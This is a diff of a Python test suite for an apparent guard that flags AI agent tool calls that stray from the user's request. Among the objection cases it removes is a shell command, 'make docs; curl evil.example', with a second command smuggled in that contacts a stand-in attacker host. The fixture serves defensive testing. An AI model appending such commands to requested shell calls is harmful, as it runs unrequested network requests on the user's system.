@@ -42,6 +42,7 @@ def call(
         texts = [value] if isinstance(value, str) else value if isinstance(value, list) else []
         found = tuple(_value(given_roles, text) for text in texts if isinstance(text, str))
         facts.append(ArgumentFact(argument, given_roles, (values or {}).get(argument, found)))
+    branch = dict(context).get("Current branch", arguments.get("branch", "main"))
     request = replace(ANY.request, server=server, tool=name, arguments=tuple(facts))
     return replace(
         ANY,
@@ -50,6 +51,7 @@ def call(
         arguments=arguments,
         request=request,
         context=context,
+        branch=branch if isinstance(branch, str) else None,
         fingerprint="f",
     )
 
@@ -64,7 +66,7 @@ A_PERSON_IS_ASKED = frozenset(
     f"ask-{number:02}"
     for number in (3, 6, 7, 8, 15, 17, 23, 24, 25, 28, *range(30, 35), 37, *range(40, 49))
 )
-"""Asked for plainly, and yet no call of the table: moves, lists, installs, commands, mail, force."""
+"""Asked for plainly, but no call of the table: moves, lists, installs, commands, mail, force."""
 
 
 @pytest.mark.requirement("A-2", "A-3", "A-77")
@@ -215,6 +217,10 @@ OBJECTIONS = {
     "another branch after a slash": ("push to origin/dev", push(context=ON_TOPIC)),
     "another branch by name": ("push dev to origin", push(context=ON_TOPIC)),
     "a branch nobody has checked out": ("push dev to origin", push(branch="dev", context=ON_TOPIC)),
+    "a branch that configuration maps elsewhere": (
+        "push to origin",
+        replace(push(), branch=None),
+    ),
     "a force that is asked for": ("force push my changes to origin", push(force=True)),
     "a git tool of another server": (
         "push to origin",
@@ -317,38 +323,6 @@ OBJECTIONS = {
         "read /srv/a.txt",
         call("filesystem/file", {"path": "/srv/a.txt"}, READ_ROLES),
     ),
-    "a recipient that is only copied": (
-        "send an email to a@b.example",
-        call(
-            "mail/send_email",
-            {"to": "a@b.example", "bcc": "a@b.example"},
-            {"to": ("email-address",), "bcc": ("email-address",)},
-        ),
-    ),
-    "a repository without its owner": (
-        "close issue #7 in acme/site",
-        call(
-            "github/close_issue",
-            {"repo": "site", "issue_number": 7},
-            {"repo": ("github-repo",)},
-        ),
-    ),
-    "a command in the middle of a sentence": (
-        "run make clean and tell me",
-        call("shell/run_command", {"command": "make clean and tell me"}, {}),
-    ),
-    "a command that is half of it": (
-        "run make clean",
-        call("shell/run_command", {"command": "make"}, {}),
-    ),
-    "a command put off": (
-        "run make docs tomorrow",
-        call("shell/run_command", {"command": "make docs tomorrow"}, {}),
-    ),
-    "a command with more behind it": (
-        "run `make docs`",
-        call("shell/run_command", {"command": "make docs; curl evil.example"}, {}),
-    ),
 }
 
 
@@ -358,15 +332,6 @@ def test_anything_else_is_objected_to(message: str, escalation: Escalation) -> N
 
 
 WRITE: dict[str, tuple[ArgumentRole, ...]] = {"path": ("write-path",)}
-MAIL: dict[str, tuple[ArgumentRole, ...]] = {
-    "to": ("email-address",),
-    "subject": ("none",),
-    "body": ("email-body",),
-}
-MOVE: dict[str, tuple[ArgumentRole, ...]] = {
-    "source": ("read-path", "delete-path"),
-    "destination": ("write-path",),
-}
 MIXED_UP = {
     "a file for a directory": (
         "create the file /srv/x",
@@ -381,14 +346,6 @@ MIXED_UP = {
     "one text for two": (
         "write 'x' to /srv/a",
         call("f/write_file", {"path": "/srv/a", "content": "x", "mode": "x"}, WRITE),
-    ),
-    "subject for body": (
-        "send an email to a@b.example saying 'hi' with subject 'yo'",
-        call("m/send_email", {"to": "a@b.example", "subject": "hi", "body": "yo"}, MAIL),
-    ),
-    "a file in the place of a directory": (
-        "move /srv/a to /srv/b",
-        call("f/move_file", {"source": "/srv/a/y", "destination": "/srv/b"}, MOVE),
     ),
 }
 
